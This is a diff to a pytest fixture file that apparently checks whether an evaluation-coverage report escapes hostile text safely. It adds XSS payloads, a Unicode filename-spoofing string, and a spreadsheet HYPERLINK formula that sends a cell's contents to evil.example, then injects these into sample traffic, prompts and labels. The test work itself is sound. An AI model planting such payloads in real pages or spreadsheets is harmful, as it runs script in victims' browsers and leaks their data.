@@ -38,3 +38,52 @@ def clinc(shared_data) -> dict:
     if not path.is_file():
         pytest.skip("clinc150 is not present")
     return json.loads(path.read_text())
+
+
+# Texts that run code if a page or a spreadsheet ever treats them as markup. Each sets a marker
+# attribute on <html> when it executes, so a browser test can tell.
+HOSTILE_TEXTS = [
+    "<script>document.documentElement.setAttribute('data-pwned','script')</script>",
+    "<img src=x onerror=\"document.documentElement.setAttribute('data-pwned','img')\">",
+    "<a href=\"javascript:document.documentElement.setAttribute('data-pwned','href')\">x</a>",
+    "</script><script>document.documentElement.setAttribute('data-pwned','json')</script>",
+    "<svg onload=\"document.documentElement.setAttribute('data-pwned','svg')\"></svg>",
+    '<iframe src="http://evil.example/frame"></iframe>',
+    "\u202egnp.exe card blocked",
+    '=HYPERLINK("http://evil.example/?"&A1,"click") cancel my plan',
+]
+
+
+@pytest.fixture(scope="session")
+def hostile_report(tmp_path_factory):
+    """A real report whose traffic, eval prompts and cluster labels are hostile texts."""
+    import pandas as pd
+
+    import evalcov
+
+    sample = REPO / "sample_data"
+    traffic = pd.read_csv(sample / "traffic.csv.gz").iloc[::150].reset_index(drop=True)
+    # Every third query carries a payload, so payloads are among every cluster's examples.
+    for i in range(0, len(traffic), 3):
+        payload = HOSTILE_TEXTS[(i // 3) % len(HOSTILE_TEXTS)]
+        traffic.loc[i, "text"] = f"{payload} {traffic.loc[i, 'text']}"
+    evals = pd.read_csv(sample / "evals.csv")[["prompt"]]
+    evals.loc[: len(HOSTILE_TEXTS) - 1, "prompt"] = [
+        f"{p} {t}" for p, t in zip(HOSTILE_TEXTS, evals["prompt"], strict=False)
+    ]
+
+    def labeler(keywords: list[str], examples: list[str]) -> str:
+        return HOSTILE_TEXTS[len(examples[0]) % len(HOSTILE_TEXTS)] + " " + ", ".join(keywords)
+
+    with pytest.MonkeyPatch.context() as mp:
+        mp.setenv("EVALCOV_CACHE_DIR", str(tmp_path_factory.getbasetemp() / "cache"))
+        return evalcov.analyze(
+            traffic,
+            evals,
+            text="text",
+            time="timestamp",
+            eval_text="prompt",
+            labeler=labeler,
+            n_clusters=8,
+            show_progress=False,
+        )
